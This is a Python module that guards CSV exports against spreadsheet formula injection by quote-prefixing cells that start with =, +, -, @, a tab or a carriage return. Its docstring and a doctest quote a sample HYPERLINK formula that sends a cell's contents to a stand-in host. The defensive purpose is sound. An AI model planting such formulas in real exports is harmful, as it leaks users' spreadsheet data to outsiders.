"""CSV that a spreadsheet opens as data, never as formulas (OWASP's CSV injection rule).

Logged queries, answers and eval-set questions come from users, documents and the model. A cell
such as ``=HYPERLINK("http://x/?"&A1,"y")`` would be run by Excel or LibreOffice when the export is
opened. Every CSV ragtune writes goes through :func:`csv_text`, which prefixes each *string* cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return with a single quote, so the
spreadsheet shows it as text. Numbers stay numbers (a negative float is not a string cell).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """``value`` made safe for a spreadsheet: a string starting like a formula gets a leading ``'``.

    Examples:
        >>> neutralise_cell('=HYPERLINK("http://x","y")')
        '\\'=HYPERLINK("http://x","y")'
        >>> neutralise_cell(-5.0), neutralise_cell("plain")
        (-5.0, 'plain')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A header and rows as CSV text, every cell neutralised (:func:`neutralise_cell`)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralise_cell(h) for h in header])
    for row in rows:
        writer.writerow([neutralise_cell(cell) for cell in row])
    return out.getvalue()
